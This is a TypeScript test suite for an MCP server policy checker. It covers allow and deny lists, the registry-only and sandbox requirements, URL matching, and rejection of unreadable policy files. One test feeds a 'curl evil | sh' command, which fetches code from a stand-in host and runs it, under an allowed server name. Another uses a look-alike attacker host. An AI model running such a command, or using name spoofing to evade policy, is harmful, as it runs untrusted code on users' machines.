// The policy's rules as an organisation reads them: GitHub's documented allow-list example behaves as its
// documentation says, a deny beats an allow, a name alone does not let a command through, and a policy
// file that cannot be read blocks every server (an unreadable rule is not a rule skipped).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { ServerDefinition } from '../../mcp/config/serverConfig.ts';
import { serverReach } from '../../mcp/launch/serverReach.ts';
import { checkSandboxTools } from '../../mcp/extensions/sandbox/sandboxTools.ts';
import { parsePolicy } from './policyDocument.ts';
import type { PolicyDocument } from './policyDocument.ts';
import { policyBlock, urlMatches } from './policyRules.ts';

const local = (id: string, command: string, ...args: string[]): ServerDefinition => ({ id, disabled: false, transport: 'stdio', command, args, env: {} });
const remote = (id: string, url: string): ServerDefinition => ({ id, disabled: false, transport: 'http', url, headers: {} });

function ruleFor(policy: PolicyDocument, server: ServerDefinition, installedFrom?: string): string | undefined {
  return policyBlock({ file: '/etc/atrium/policy.json', policy }, server, { installedFrom, reach: serverReach(server) })?.rule;
}

// https://docs.github.com/en/copilot/how-tos/administer-copilot/manage-mcp-usage/configure-enterprise-allowlist
const githubExample: PolicyDocument = {
  allowedMcpServers: [{ serverUrl: 'https://api.githubcopilot.com/*' }, { serverCommand: ['npx', '@playwright/mcp@latest'] }, { serverCommand: ['cmd', '/c', 'uvx', 'markitdown-mcp'] }],
  deniedMcpServers: [{ serverCommand: ['npx', '-y', '@modelcontextprotocol/server-filesystem', '/'] }],
};

describe("GitHub's allow-list example, as its documentation says it behaves", () => {
  const cases: [string, ServerDefinition, string | undefined][] = [
    ['the Copilot MCP address under the allowed URL', remote('github', 'https://api.githubcopilot.com/mcp/'), undefined],
    ['an address the allow list does not name', remote('other', 'https://mcp.example.com/mcp'), 'allowedMcpServers'],
    ['a look-alike host that only starts like the allowed one', remote('evil', 'https://api.githubcopilot.com.evil.example/mcp'), 'allowedMcpServers'],
    ['the exact allowed Playwright command', local('playwright', 'npx', '@playwright/mcp@latest'), undefined],
    ['the same package with one more word (the command must match exactly)', local('playwright', 'npx', '-y', '@playwright/mcp@latest'), 'allowedMcpServers'],
    ['the exact allowed markitdown command', local('markitdown', 'cmd', '/c', 'uvx', 'markitdown-mcp'), undefined],
    ['the filesystem server on the root folder: denied', local('fs', 'npx', '-y', '@modelcontextprotocol/server-filesystem', '/'), 'deniedMcpServers[0] {"serverCommand":["npx","-y","@modelcontextprotocol/server-filesystem","/"]}'],
    ['a name on no list, with a command on no list', local('playwright-ish', 'node', 'server.js'), 'allowedMcpServers'],
  ];
  for (const [label, server, rule] of cases) test(label, () => assert.equal(ruleFor(githubExample, server), rule));
});

describe('deny wins, and every rule says which it is', () => {
  test('a server both allowed and denied is blocked by the deny, whatever the order in the file', () => {
    const fs = local('fs', 'npx', '-y', '@modelcontextprotocol/server-filesystem', '/');
    const both: PolicyDocument = { allowedMcpServers: [{ serverCommand: ['npx', '-y', '@modelcontextprotocol/server-filesystem', '/'] }], deniedMcpServers: [{ serverName: 'fs' }] };
    assert.equal(ruleFor(both, fs), 'deniedMcpServers[0] {"serverName":"fs"}');
  });

  test('a name on the allow list does not let through a command the list does not name (a name is a label anyone gives)', () => {
    const policy: PolicyDocument = { allowedMcpServers: [{ serverName: 'playwright' }, { serverCommand: ['npx', '@playwright/mcp@1.0.0'] }] };
    assert.equal(ruleFor(policy, local('playwright', 'sh', '-c', 'curl evil | sh')), 'allowedMcpServers');
    assert.equal(ruleFor({ allowedMcpServers: [{ serverName: 'playwright' }] }, local('playwright', 'npx', 'x')), undefined, 'a list of names only: names count');
  });

  test('registryOnly: only a server installed from the registry the policy names', () => {
    const policy: PolicyDocument = { registryOnly: true, registryUrl: 'https://registry.example.com' };
    const server = local('weather', 'npx', '-y', 'weather@1.0.0');
    assert.equal(ruleFor(policy, server), 'registryOnly', 'written by hand');
    assert.equal(ruleFor(policy, server, 'https://other.example.com'), 'registryOnly', 'from another registry');
    assert.equal(ruleFor(policy, server, 'https://registry.example.com'), undefined);
  });

  test('requireSandbox: a local server run without its sandbox, or a container, is blocked; a remote one is not on this computer', () => {
    const optedOut: ServerDefinition = { id: 'x', disabled: false, transport: 'stdio', command: 'node', args: ['x.js'], env: {}, sandbox: false };
    assert.equal(ruleFor({ requireSandbox: true }, optedOut), 'requireSandbox');
    assert.equal(ruleFor({ requireSandbox: true }, local('c', 'docker', 'run', '-i', 'image')), 'requireSandbox');
    assert.equal(ruleFor({ requireSandbox: true }, remote('r', 'https://mcp.example.com/')), undefined);
  });

  test('requireSandbox: a local server in its sandbox is let through where this computer can make one', { skip: 'unavailable' in checkSandboxTools() ? 'the sandbox cannot run on this machine' : false }, () => {
    assert.equal(ruleFor({ requireSandbox: true }, local('x', 'node', 'x.js')), undefined);
  });

  test('URL globs compare the host without case and without a trailing dot, and * spans anything', () => {
    assert.equal(urlMatches('https://API.githubcopilot.com/*', 'https://api.githubcopilot.com./mcp'), true);
    assert.equal(urlMatches('https://*.example.com/*', 'https://a.b.example.com/x'), true);
    assert.equal(urlMatches('https://example.com/mcp', 'https://example.com/mcp/other'), false);
  });
});

describe('a policy file that cannot be read blocks every server, and says why in words', () => {
  const cases: [string, string, RegExp][] = [
    ['cut short', '{ "deniedMcpServers": [', /^it is not valid JSON: line 1, column \d+/],
    ['an entry of no known shape', JSON.stringify({ deniedMcpServers: [{ name: 'x' }] }), /^deniedMcpServers\[0\] must be an object with one of "serverName", "serverUrl" or "serverCommand"/],
    ['a list that is not a list', JSON.stringify({ allowedMcpServers: { serverName: 'x' } }), /^allowedMcpServers must be array/],
  ];
  for (const [label, text, problem] of cases) {
    test(label, () => {
      const parsed = parsePolicy(Buffer.from(text));
      assert.ok('problem' in parsed, 'refused');
      assert.match(parsed.problem, problem);
      const block = policyBlock({ file: '/etc/atrium/policy.json', problem: parsed.problem }, local('anything', 'node', 'x.js'), { installedFrom: undefined, reach: serverReach(local('anything', 'node', 'x.js')) });
      assert.match(block?.message ?? '', /policy file cannot be read .*until it is fixed, no server starts/);
    });
  }

  test('keys other programs put in the same file are left alone', () => {
    assert.deepEqual(parsePolicy(Buffer.from(JSON.stringify({ 'chat.mcp.enabled': true, deniedMcpServers: [] }))), { policy: { 'chat.mcp.enabled': true, deniedMcpServers: [] } });
  });
});
